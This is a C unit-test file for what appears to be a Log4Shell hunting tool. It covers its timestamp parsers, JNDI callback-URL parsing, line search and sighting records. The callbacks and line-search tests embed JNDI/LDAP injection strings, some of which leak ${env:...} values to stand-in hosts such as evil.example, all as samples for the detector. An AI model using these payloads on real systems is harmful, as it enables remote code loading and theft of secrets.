/* The parts of a hunt by themselves: times, call-backs, counts, blocks of lines, archives. */
#include "unit.h"

#include "archive/tar.h"
#include "base/limits.h"
#include "failalloc.h"
#include "hunt/format_int.h"
#include "hunt/lines.h"
#include "hunt/sighting.h"
#include "hunt/sums.h"
#include "lookup/callback.h"

static void times(void **state)
{
    (void)state;
    typedef bool (*take_fn)(struct cursor *, int64_t *);
    static const struct {
        const char *text, *want; /* NULL: is none */
        take_fn take;
    } cases[] = {
        {"2021-12-10T18:12:33,123+09:00", "2021-12-10T09:12:33.123Z", take_iso_time},
        {"2021-12-10 18:12:33.5Z", "2021-12-10T18:12:33.500Z", take_iso_time},
        {"2021/12/10 18:12:33 +0900", "2021-12-10T09:12:33.000Z", take_iso_time},
        {"20211210T181233Z", "2021-12-10T18:12:33.000Z", take_iso_time},
        {"20211210T181233,5Z", "2021-12-10T18:12:33.500Z", take_iso_time},
        {"20211210181233123", "2021-12-10T18:12:33.123Z", take_iso_time},
        {"2021121018123312345", NULL, take_iso_time},
        {"20211310181233123", NULL, take_iso_time},
        {"2020-02-29T23:59:60Z", "2020-03-01T00:00:00.000Z", take_iso_time},
        {"2100-02-29T00:00:00Z", NULL, take_iso_time},
        {"2021-12-10 18:12:33.123 JST", "2021-12-10T09:12:33.123Z", take_iso_time},
        {"2021-12-10 18:12:33 ESTABLISHED", "2021-12-10T18:12:33.000Z", take_iso_time},
        {"2021-12-10 18:12:33 EST", "2021-12-10T23:12:33.000Z", take_iso_time},
        {"2021-12-10 18:12:33 PST_8", "2021-12-10T18:12:33.000Z", take_iso_time},
        {"2021-12-10 18:12:33 +0999", "2021-12-10T18:12:33.000Z", take_iso_time},
        {"2021-12-10 18:12:33 -123456", "2021-12-10T18:12:33.000Z", take_iso_time},
        {"2021-12-10 18:12:33 -1234 x", "2021-12-11T06:46:33.000Z", take_iso_time},
        {"2021-12-31T23:59:60.5+09:00", "2021-12-31T15:00:00.500Z", take_iso_time},
        {"2021-12-31T23:59:61Z", NULL, take_iso_time},
        {"1969-12-31T23:59:59Z", NULL, take_iso_time},
        {"9999-12-31T23:59:59Z", "9999-12-31T23:59:59.000Z", take_iso_time},
        {"2021-07-01 18:12:33 CEST", "2021-07-01T16:12:33.000Z", take_iso_time},
        {"2021-07-01 18:12:33 -0330", "2021-07-01T21:42:33.000Z", take_iso_time},
        {"29/Feb/2020:00:00:00 +1400", "2020-02-28T10:00:00.000Z", take_clf_time},
        {"2021-12-10T18:12:33.123456789Z", "2021-12-10T18:12:33.123Z", take_iso_time},
        {"2021-12-10T18:12Z", "2021-12-10T18:12:00.000Z", take_iso_time},
        {"2021-13-10T18:12:33Z", NULL, take_iso_time},
        {"2021-02-29T18:12:33Z", NULL, take_iso_time},
        {"2021-12-10T24:12:33Z", NULL, take_iso_time},
        {"2021-12/10T18:12:33Z", NULL, take_iso_time},
        {"10/Dec/2021:18:12:33 -0130", "2021-12-10T19:42:33.000Z", take_clf_time},
        {"10/Dez/2021:18:12:33 +0000", NULL, take_clf_time},
        {"Fri Dec 10 18:12:33.5 2021", "2021-12-10T18:12:33.500Z", take_apache_time},
        {"Fry Dec 10 18:12:33 2021", NULL, take_apache_time},
        {"10 Dec 2021 18:12:33,7", "2021-12-10T18:12:33.700Z", take_dmy_time},
        {"13-Dec-2021 22:40:06.120", "2021-12-13T22:40:06.120Z", take_dmy_time},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct cursor c = cursor_of(slice_str(cases[i].text));
        char text[TIME_RFC3339_SIZE];
        int64_t ms = 0;
        bool ok = cases[i].take(&c, &ms);
        if (ok != (cases[i].want != NULL))
            fail_msg("%s: %d", cases[i].text, ok);
        if (!ok) {
            assert_int_equal(c.at, 0);
            continue;
        }
        time_format_utc(ms, text);
        assert_string_equal(text, cases[i].want);
        for (size_t n = 0; n < strlen(cases[i].text); n++) { /* cut anywhere */
            c = cursor_of(slice_of(cases[i].text, n));
            (void)cases[i].take(&c, &ms);
            assert_in_range(c.at, 0, n);
        }
    }
}

static void years_of_syslog(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        int64_t newest_ms;
        int year;
    } cases[] = {
        {"Dec 31 23:00:00", 1640998800000, 2021}, /* 2022-01-01T01:00Z */
        {"Jan  1 00:30:00", 1640998800000, 2022},
        {"Jan  2 12:00:00", 1640998800000, 2022}, /* a clock that is ahead */
        {"Jan  5 12:00:00", 1640998800000, 2021},
        {"Feb 29 12:00:00", 1640998800000, 2020},
        {"Dec 10 2019 01:02:03", 1640998800000, 2019},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct cursor c = cursor_of(slice_str(cases[i].text));
        int64_t ms = 0;
        assert_true(take_syslog_time(&c, cases[i].newest_ms, &ms));
        assert_int_equal(civil_of_ms(ms).year, cases[i].year);
    }
}

static void epochs(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        int64_t ms; /* -1: is none */
    } cases[] = {{"1639402803", 1639402803000},
                 {"1639402803.25", 1639402803250},
                 {"1639402803123", 1639402803123},
                 {"1639402803123456", 1639402803123},
                 {"1639402803123456789", 1639402803123},
                 {"9999999999999999999", -1},
                 {"16394028031234567890", -1},
                 {"163940280312345678", 163940280312},
                 {"20211210181233123", -1}, /* a date, no number of microseconds */
                 {"4102444799999", 4102444799999},
                 {"4102444800000", -1},
                 {"12345678", -1},
                 {"1639402803x", -1}};
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        int64_t ms = -1;
        bool ok = parse_epoch(slice_str(cases[i].text), &ms);
        assert_int_equal(ok ? ms : -1, cases[i].ms);
    }
}

static void callbacks(void **state)
{
    (void)state;
    static const struct {
        const char *key, *scheme, *host, *path;
        uint16_t port;
        const char *fixed;
        bool partial;
    } cases[] = {
        {"ldap://203.0.113.9:1389/a", "ldap", "203.0.113.9", "/a", 1389, "203.0.113.9", false},
        {"ldap://${env:USER}.q7.example/a", "ldap", "${env:user}.q7.example", "/a", 389,
         "q7.example", true},
        {"ldap://x${env:A}y.q7.example/", "ldap", "x${env:a}y.q7.example", "/", 389, "q7.example",
         true},
        {"ldap://${env:A}.example/", "ldap", "${env:a}.example", "/", 389, "", false},
        {"ldap://${env:A}.co.jp/", "ldap", "${env:a}.co.jp", "/", 389, "", false},
        {"ldap://${env:A}.evil.co.jp/", "ldap", "${env:a}.evil.co.jp", "/", 389, "evil.co.jp",
         true},
        {"ldap://${env:A}.0.113.9/", "ldap", "${env:a}.0.113.9", "/", 389, "", false},
        {"ldap://203.0.113.${env:A:-9}/", "ldap", "203.0.113.${env:a:-9}", "/", 389, "203.0.113.9",
         false},
        {"ldap://${env:A:-Evil.example}:${env:P:-1389}/", "ldap", "${env:a:-evil.example}", "/",
         1389, "evil.example", false},
        {"ldap://${env:A:-ev}${x:y:-il}.example/", "ldap", "${env:a:-ev}${x:y:-il}.example", "/",
         389, "evil.example", false},
        {"ldap://${env:A:-${b}}.example/", "ldap", "${env:a:-${b}}.example", "/", 389, "", false},
        {"ldap://evil.example.${env:A}/", "ldap", "evil.example.${env:a}", "/", 389, "", false},
        {"ldap://${env:U@other.example}.q7.example./", "ldap", "${env:u@other.example}.q7.example",
         "/", 389, "q7.example", true},
        {"ldap://${env:U}:x@q7.example:${env:P}/", "ldap", "q7.example", "/", 0, "q7.example",
         false},
        {"ldap://q7.example.${env:A/", "ldap", "q7.example.${env:a/", "", 389, "", false},
        {"ldap:x", "ldap", "x", "", 389, "x", false},
        {"rmi:/x:99", "rmi", "x", "", 99, "x", false},
        {"LDAP://H.Example./a", "LDAP", "h.example", "/a", 389, "h.example", false},
        {"ldap://u:p@h.example:1/a", "ldap", "h.example", "/a", 1, "h.example", false},
        {"ldap://[2001:DB8::1]:1099/a", "ldap", "2001:db8::1", "/a", 1099, "2001:db8::1", false},
        {"ldap://[::ffff:192.0.2.1]/a", "ldap", "192.0.2.1", "/a", 389, "192.0.2.1", false},
        {"ldap://0x7f.1/a", "ldap", "127.0.0.1", "/a", 389, "127.0.0.1", false},
        {"ldap://3405803785/a", "ldap", "203.0.113.9", "/a", 389, "203.0.113.9", false},
        {"ldap://127.0.0.1#evil.example:1389/a", "ldap", "evil.example", "#evil.example:1389/a",
         1389, "evil.example", false},
        {"ldap://h:99999/a", "ldap", "h", "/a", 389, "h", false},
        {"java:comp/env/jdbc", "", "", "java:comp/env/jdbc", 0, "", false},
        {"java:comp/x", "java", "", "comp/x", 0, "", false},
        {"nothing", "", "", "nothing", 0, "", false},
        {"", "", "", "", 0, "", false},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct callback c = callback_parse(slice_str(cases[i].key));
        struct buf host;
        bool partial = false;
        buf_init(&host, 256);
        assert_slice_equal(c.scheme, cases[i].scheme);
        assert_ok(callback_host(c.host, &host));
        assert_slice_equal(buf_slice(&host), cases[i].host);
        assert_slice_equal(c.path, cases[i].path);
        assert_int_equal(c.port, cases[i].port);
        buf_clear(&host);
        assert_ok(callback_sought(c.host, &host, &partial));
        assert_slice_equal(buf_slice(&host), cases[i].fixed);
        assert_int_equal(partial, cases[i].partial);
        buf_done(&host);
    }
}

/* A name of each length around the longest; then as many bytes as there is room for. */
static void sums_take_names(void)
{
    struct sums s = {0};
    char name[LIMIT_HUNT_NAME + 2];
    size_t bytes = 0;
    memset(name, 'x', sizeof name);
    for (size_t n = LIMIT_HUNT_NAME - 1; n <= LIMIT_HUNT_NAME + 1; n++) {
        assert_ok(sums_add(&s, slice_of(name, n), 1, NULL));
        assert_int_equal(sums_find(&s, slice_of(name, n)) != NULL, n <= LIMIT_HUNT_NAME);
        bytes += n <= LIMIT_HUNT_NAME ? n : 0;
    }
    assert_int_equal(s.others, 1);
    for (unsigned i = 0; bytes + 200 <= LIMIT_HUNT_NAMES; i++, bytes += 200) {
        memcpy(name, &(uint32_t){0x01010101 + i % 200 + (i / 200 << 8)}, 4); /* no NUL in it */
        assert_ok(sums_add(&s, slice_of(name, 200), 1, NULL));
    }
    assert_int_equal(s.others, 1);
    size_t left = LIMIT_HUNT_NAMES - bytes;
    for (size_t n = left + 1; n >= left - 1; n--) { /* one too long; then it is full */
        name[0] = (char)('a' + n - left + 1);
        assert_ok(sums_add(&s, slice_of(name, n), 1, NULL));
        assert_int_equal(sums_find(&s, slice_of(name, n)) != NULL, n == left);
    }
    sums_done(&s);
}

static void sums_are_bounded(void **state)
{
    (void)state;
    struct sums s = {0};
    const struct sum **list = NULL;
    size_t n = 0;
    char name[32];
    for (size_t i = 0; i < LIMIT_HUNT_SUMS + 1; i++) {
        struct sum *at = NULL;
        (void)snprintf(name, sizeof name, "h%zu", i);
        assert_ok(sums_add(&s, slice_str(name), 1, &at));
        assert_int_equal(at != NULL, i < LIMIT_HUNT_SUMS);
    }
    assert_ok(sums_add(&s, SLICE_LIT("h7"), 2, NULL));
    assert_int_equal(s.used, LIMIT_HUNT_SUMS);
    assert_int_equal(s.others, 1);
    assert_ok(sums_sorted(&s, &list, &n));
    assert_string_equal(list[0]->name, "h7");
    assert_int_equal(list[0]->count, 3);
    assert_int_equal(n, LIMIT_HUNT_SUMS);
    free(list);
    sums_done(&s);
    sums_take_names();
    for (unsigned long nth = 1;; nth++) { /* memory runs out at each call */
        failalloc_at(nth);
        enum status st = sums_add(&s, SLICE_LIT("a"), 1, NULL);
        bool hit = failalloc_hit();
        assert_int_equal(st, hit ? ST_NOMEM : OK);
        sums_done(&s);
        if (!hit)
            break;
    }
}

/* --- blocks of lines */

struct seen {
    uint64_t numbers[16];
    size_t count, longest;
};

static enum status on_hit(void *ctx, const struct line_hit *h)
{
    struct seen *s = ctx;
    assert_in_range(s->count, 0, 15);
    s->numbers[s->count++] = h->number;
    s->longest = h->line.n > s->longest ? h->line.n : s->longest;
    return OK;
}

/* The text in blocks of at most `size` bytes. */
static struct seen search(struct slice text, size_t size, uint64_t *ret_lines)
{
    struct prefilter filter;
    struct line_search s;
    struct seen seen = {0};
    prefilter_init(&filter);
    assert_ok(line_search_init(&s, &filter));
    s.hit = on_hit;
    s.ctx = &seen;
    line_search_begin(&s);
    for (size_t at = 0; at < text.n;) {
        struct slice block = slice_sub(text, at, size);
        bool more = at + block.n < text.n;
        size_t used = 0;
        assert_ok(line_search_block(&s, block, more, &used));
        if (!more)
            break;
        assert_in_range(used, 1, block.n);
        at += used;
    }
    *ret_lines = s.lines;
    line_search_done(&s);
    return seen;
}

static void lines_in_any_blocks(void **state)
{
    (void)state;
    static const char payload[] = "${jndi:ldap://h/a}";
    static const size_t fill[] = {0,
                                  10,
                                  LIMIT_HUNT_LINE - sizeof payload,
                                  LIMIT_HUNT_LINE,
                                  LIMIT_HUNT_LINE + 1,
                                  LIMIT_HUNT_BLOCK - 9,
                                  LIMIT_HUNT_BLOCK + 70000,
                                  700000};
    for (size_t i = 0; i < ARRAY_LEN(fill); i++) {
        struct buf text;
        uint64_t lines = 0;
        buf_init(&text, MIB(8));
        (void)buf_add_str(&text, "nothing\n\n");
        for (size_t k = 0; k < fill[i]; k++)
            (void)buf_add_char(&text, 'x');
        (void)buf_addf(&text, "%s and %s", payload, payload);
        for (size_t k = 0; k < fill[i]; k++)
            (void)buf_add_char(&text, 'y');
        (void)buf_addf(&text, "\nnothing %s\nend", payload);
        for (size_t size = LIMIT_HUNT_BLOCK; size < 4 * LIMIT_HUNT_BLOCK; size += 33333) {
            struct seen seen = search(buf_slice(&text), size, &lines);
            assert_int_equal(seen.count, 2);
            assert_int_equal(seen.numbers[0], 3);
            assert_int_equal(seen.numbers[1], 4);
            assert_int_equal(lines, 4);
            assert_in_range(seen.longest, 1, LIMIT_HUNT_LINE);
        }
        buf_done(&text);
    }
}

/* Without a newline a block of LIMIT_HUNT_BLOCK is searched and a shorter one waits for more, at
 * the beginning of a line and inside it. */
static void a_block_at_its_least(void **state)
{
    (void)state;
    struct prefilter filter;
    struct buf text;
    prefilter_init(&filter);
    buf_init(&text, MIB(1));
    for (size_t k = 0; k < LIMIT_HUNT_BLOCK + 1; k++)
        (void)buf_add_char(&text, 'x');
    for (int inside = 0; inside < 2; inside++) {
        for (size_t n = LIMIT_HUNT_BLOCK - 1; n <= LIMIT_HUNT_BLOCK + 1; n++) {
            struct line_search s;
            size_t used = 0;
            assert_ok(line_search_init(&s, &filter));
            line_search_begin(&s);
            if (inside)
                assert_ok(line_search_block(&s, buf_slice(&text), true, &used));
            assert_int_equal(s.inside, inside);
            assert_ok(line_search_block(&s, slice_of(text.p, n), true, &used));
            assert_int_equal(used > 0, n >= LIMIT_HUNT_BLOCK);
            assert_ok(line_search_block(&s, slice_of(text.p, n), false, &used));
            assert_int_equal(used, n); /* at the end of the text any length is searched */
            line_search_done(&s);
        }
    }
    buf_done(&text);
}

static void sightings_are_kept(void **state)
{
    (void)state;
    struct sighting s = {.verdict = SIGHTED_REACHES,
                         .reason = ATTEMPT_NO_REASON,
                         .has_time = true,
                         .time_ms = -5,
                         .line = UINT64_MAX},
                    got = {0};
    struct buf b;
    size_t n = 0;
    s.text[SIGHTING_KEY] = SLICE_LIT("ldap://h:9/a");
    s.text[SIGHTING_FILE] = SLICE_LIT("/var/log/a\xff");
    buf_init(&b, KIB(64));
    assert_ok(sighting_pack(&s, &b));
    for (size_t cut = 0; cut < b.n; cut++)
        assert_int_equal(sighting_unpack(slice_of(b.p, cut), &got, &n), ST_MALFORMED);
    (void)buf_add_str(&b, "behind");
    assert_ok(sighting_unpack(buf_slice(&b), &got, &n));
    assert_int_equal(n, b.n - 6);
    assert_int_equal(got.line, UINT64_MAX);
    assert_int_equal(got.time_ms, -5);
    assert_int_equal(got.callback.port, 9);
    assert_slice_equal(got.text[SIGHTING_FILE], "/var/log/a\xff");
    buf_done(&b);
}

int main(void)
{
    (void)setenv("TZ", "UTC", 1);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(times),
        cmocka_unit_test(years_of_syslog),
        cmocka_unit_test(epochs),
        cmocka_unit_test(callbacks),
        cmocka_unit_test(sums_are_bounded),
        cmocka_unit_test(a_block_at_its_least),
        cmocka_unit_test(lines_in_any_blocks),
        cmocka_unit_test(sightings_are_kept),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
